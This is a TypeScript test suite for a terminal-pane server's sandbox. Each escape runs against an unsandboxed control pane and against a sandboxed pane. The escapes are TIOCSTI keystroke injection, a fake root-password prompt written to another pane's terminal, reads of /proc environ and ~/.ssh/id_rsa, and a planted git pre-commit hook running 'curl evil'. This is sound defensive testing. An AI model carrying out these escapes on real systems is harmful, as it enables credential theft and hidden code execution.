import { randomBytes } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  giveToPanes,
  makeWorkspace,
  type Served,
  serveWorkspace,
  type TestWorkspace,
  unprivilegedServer,
} from "../support/mcp-harness.js";
import { attack, runInShell } from "../support/shell-pane.js";

/**
 * Issue 4: every escape a pane's program might try, run for real twice — against an unsandboxed pane (the
 * control: the attack must work, proving the test can fail) and against a sandboxed pane (it must not).
 */
const SHELL = "bash --norc --noprofile";

interface Setup {
  ws: TestWorkspace;
  mcp: Served;
  home: string;
  keyMaterial: string;
  serverSecret: string;
  listener: Server;
  port: number;
}

async function setUp(mode: "off" | "required"): Promise<Setup> {
  const ws = makeWorkspace({
    commands: [{ command: "bash", args: ["--norc --noprofile"], input: "raw" }],
    env: { pass: ["PATH", "HOME", "LANG"], fromAgent: ["PANE_PRIVATE"] },
    sandbox: { mode },
  });
  mkdirSync(join(ws.root, ".git", "hooks"), { recursive: true });
  writeFileSync(join(ws.root, ".git", "config"), "[core]\n\tbare = false\n");
  // A home outside /tmp (every sandbox has a private /tmp): only the hidden-path list can hide its secrets.
  const home = mkdtempSync("/var/tmp/ccmux-home-");
  const keyMaterial = `FAKE-KEY-${randomBytes(6).toString("hex")}`;
  mkdirSync(join(home, ".ssh"), { mode: 0o700 });
  writeFileSync(join(home, ".ssh", "id_rsa"), `${keyMaterial}\n`);
  const serverSecret = `server-secret-${randomBytes(6).toString("hex")}`;
  // The control's server runs as an ordinary user; a root server's sandboxed panes get the planted files as
  // their own, so that the sandbox alone stops them.
  const wrapper = mode === "off" ? unprivilegedServer(ws, home) : [];
  if (mode !== "off") giveToPanes(ws.root, home);
  const mcp = await serveWorkspace(ws, { HOME: home, SERVER_ONLY_SECRET: serverSecret }, wrapper);
  const listener = createServer((socket) => socket.end());
  await new Promise<void>((done) => listener.listen(0, "127.0.0.1", done));
  const address = listener.address();
  const port = typeof address === "object" && address ? address.port : 0;
  return { ws, mcp, home, keyMaterial, serverSecret, listener, port };
}

async function tearDown(setup: Setup | undefined): Promise<void> {
  if (!setup) return;
  await setup.mcp.close();
  setup.listener.close();
  setup.ws.cleanup();
  rmSync(setup.home, { recursive: true, force: true });
}

async function shell(
  mcp: Served,
  env?: Record<string, string>,
): Promise<{ pane: string; pid: number; sandboxed: boolean }> {
  return mcp.ok("spawn", { command: SHELL, ...(env ? { env } : {}) });
}

/** A shell pane that has shown its prompt (its terminal is set up), and the host path of that terminal. */
async function victimShell(mcp: Served): Promise<{ pane: string; tty: string }> {
  const victim = await shell(mcp);
  await runInShell(mcp, victim.pane, "true");
  const tty = readlinkSync(`/proc/${victim.pid}/fd/0`);
  if (!tty.startsWith("/dev/pts/")) throw new Error(`the victim's terminal is ${tty}`);
  return { pane: victim.pane, tty };
}

for (const mode of ["off", "required"] as const) {
  const sandboxed = mode === "required";
  const outcome = sandboxed ? "fails in a sandboxed pane" : "works in an unsandboxed pane (control)";

  describe(`pane escapes: ${outcome}`, () => {
    let s: Setup;
    let attacker: { pane: string; pid: number; sandboxed: boolean };
    beforeAll(async () => {
      s = await setUp(mode);
      attacker = await shell(s.mcp);
    });
    afterAll(() => tearDown(s));

    it("reports the pane's confinement in spawn and list_panes", async () => {
      expect(attacker.sandboxed).toBe(sandboxed);
      const { panes } = await s.mcp.ok<{ panes: Array<{ pane: string; sandboxed: boolean }> }>("list_panes");
      expect(panes.find((p) => p.pane === attacker.pane)?.sandboxed).toBe(sandboxed);
    });

    for (const bits of ["plain", "high"] as const) {
      it(`TIOCSTI into its own terminal (${bits} request) types a command the shell runs`, async () => {
        const add = bits === "plain" ? 3 : 4;
        const tag = String(40 + add);
        const text = await runInShell(
          s.mcp,
          attacker.pane,
          attack("sti", `own-${bits}`, "-", bits, `echo OWN$((40+${add}))`),
        );
        const after = await runInShell(s.mcp, attacker.pane, "true");
        if (sandboxed) {
          expect(text).toContain(`own-${bits}:DENIED-EPERM`);
          expect(after).not.toContain(`OWN${tag}`);
        } else {
          expect(text).toContain(`own-${bits}:OK`);
          expect(after).toContain(`OWN${tag}`);
        }
      });
    }

    for (const bits of ["plain", "high"] as const) {
      // Pushing keys into a terminal other than one's own takes CAP_SYS_ADMIN: only a root pane could, and panes
      // never run as root (a root server runs them as an unprivileged user), so there is no control to show.
      it.skipIf(!sandboxed)(
        `TIOCSTI into another pane's terminal (${bits} request) runs a command there`,
        async () => {
          const victim = await victimShell(s.mcp);
          const tag = bits === "plain" ? "52" : "53";
          const text = await runInShell(
            s.mcp,
            attacker.pane,
            attack("sti", `other-${bits}`, victim.tty, bits, `echo CROSS$((50+${tag}-50))`),
          );
          const victimScreen = await runInShell(s.mcp, victim.pane, "true");
          if (sandboxed) {
            expect(text).toContain(`other-${bits}:DENIED-ENOENT`);
            expect(victimScreen).not.toContain(`CROSS${tag}`);
          } else {
            expect(text).toContain(`other-${bits}:OK`);
            expect(victimScreen).toContain(`CROSS${tag}`);
          }
          await s.mcp.ok("kill_pane", { pane: victim.pane });
        },
      );
    }

    it("writing fake output into another pane's /dev/pts/N shows up on its screen", async () => {
      const victim = await victimShell(s.mcp);
      const fake = "Password for root:";
      const text = await runInShell(s.mcp, attacker.pane, attack("write", "fake-output", victim.tty, fake));
      const { text: victimScreen } = await s.mcp.ok<{ text: string }>("read_pane", { pane: victim.pane });
      if (sandboxed) {
        expect(text).toContain("fake-output:DENIED-ENOENT");
        expect(victimScreen).not.toContain(fake);
      } else {
        expect(text).toContain("fake-output:OK");
        const { text: later } = await s.mcp.ok<{ text: string }>("wait_for", {
          pane: victim.pane,
          text: fake,
          timeout_ms: 5000,
        });
        expect(later).toContain(fake);
      }
      await s.mcp.ok("kill_pane", { pane: victim.pane });
    });

    it("reading another pane's /proc/<pid>/environ finds its private variable", async () => {
      const value = `victim-${randomBytes(5).toString("hex")}`;
      const victim = await shell(s.mcp, { PANE_PRIVATE: value });
      const direct = await runInShell(
        s.mcp,
        attacker.pane,
        attack("read", "victim-environ", `/proc/${victim.pid}/environ`),
      );
      const scan = await runInShell(s.mcp, attacker.pane, attack("secret", "victim-scan", "PANE_PRIVATE"));
      if (sandboxed) {
        expect(direct).toContain("victim-environ:DENIED-ENOENT");
        expect(scan).toContain("victim-scan:DENIED-ENOENT");
        expect(scan).not.toContain(value);
      } else {
        expect(direct).toContain("victim-environ:OK");
        expect(scan).toContain(`victim-scan:OK ${value}`);
      }
      await s.mcp.ok("kill_pane", { pane: victim.pane });
    });

    it("reading the server's /proc/<pid>/environ finds no secret the children were never given", async () => {
      const direct = await runInShell(
        s.mcp,
        attacker.pane,
        attack("read", "server-environ", `/proc/${s.mcp.serverPid}/environ`),
      );
      const scan = await runInShell(
        s.mcp,
        attacker.pane,
        attack("secret", "server-scan", "SERVER_ONLY_SECRET"),
      );
      if (sandboxed) {
        expect(direct).toContain("server-environ:DENIED-ENOENT");
        expect(scan).toContain("server-scan:DENIED-ENOENT");
      } else {
        // The server is non-dumpable: even a pane of its own uid cannot open its /proc files.
        expect(direct).toMatch(/server-environ:DENIED-E(ACCES|PERM)/);
      }
      expect(scan).not.toContain(s.serverSecret);
    });

    it("writing outside the workspace creates a file on the host", async () => {
      const outside = join(s.home, "planted.txt");
      const text = await runInShell(s.mcp, attacker.pane, attack("write", "outside", outside, "planted"));
      if (sandboxed) {
        expect(text).toContain("outside:DENIED-EROFS");
        expect(existsSync(outside)).toBe(false);
      } else {
        expect(text).toContain("outside:OK");
        expect(existsSync(outside)).toBe(true);
      }
    });

    it("writing a git hook and .git/config (code that runs at the person's next commit)", async () => {
      const hook = join(s.ws.root, ".git", "hooks", "pre-commit");
      const hookTry = await runInShell(
        s.mcp,
        attacker.pane,
        attack("write", "hook", hook, "#!/bin/sh\ncurl evil"),
      );
      const config = await runInShell(
        s.mcp,
        attacker.pane,
        attack("write", "git-config", join(s.ws.root, ".git", "config"), "[core]\n\thooksPath = /tmp"),
      );
      if (sandboxed) {
        expect(hookTry).toContain("hook:DENIED-EROFS");
        expect(config).toContain("git-config:DENIED-EROFS");
        expect(existsSync(hook)).toBe(false);
        expect(readFileSync(join(s.ws.root, ".git", "config"), "utf8")).not.toContain("hooksPath");
      } else {
        expect(hookTry).toContain("hook:OK");
        expect(existsSync(hook)).toBe(true);
      }
    });

    it("replacing .git (rename it away, then plant a fresh .git/hooks) is refused", async () => {
      const text = await runInShell(
        s.mcp,
        attacker.pane,
        attack("rename", "git-swap", join(s.ws.root, ".git"), join(s.ws.root, ".git-moved")),
      );
      if (sandboxed) {
        expect(text).toContain("git-swap:DENIED-EBUSY");
        expect(existsSync(join(s.ws.root, ".git", "hooks"))).toBe(true);
      } else {
        expect(text).toContain("git-swap:OK");
      }
    });

    it("reading ~/.ssh finds the private key", async () => {
      const text = await runInShell(
        s.mcp,
        attacker.pane,
        attack("read", "ssh-key", join(s.home, ".ssh", "id_rsa")),
      );
      if (sandboxed) {
        expect(text).toContain("ssh-key:DENIED-ENOENT");
        expect(text).not.toContain(s.keyMaterial);
      } else {
        expect(text).toContain(`ssh-key:OK ${s.keyMaterial}`);
      }
    });

    it("connecting to a listener on the host's 127.0.0.1", async () => {
      const text = await runInShell(
        s.mcp,
        attacker.pane,
        attack("connect", "net", "127.0.0.1", String(s.port)),
      );
      if (sandboxed) expect(text).toMatch(/net:DENIED-(ECONNREFUSED|ENETUNREACH)/);
      else expect(text).toContain("net:OK");
    });

    it("the workspace itself stays writable and the program's output readable", async () => {
      const text = await runInShell(
        s.mcp,
        attacker.pane,
        "echo kept > in-workspace.txt && cat in-workspace.txt",
      );
      expect(text).toContain("kept");
      expect(readFileSync(join(s.ws.root, "in-workspace.txt"), "utf8")).toBe("kept\n");
    });
  });
}
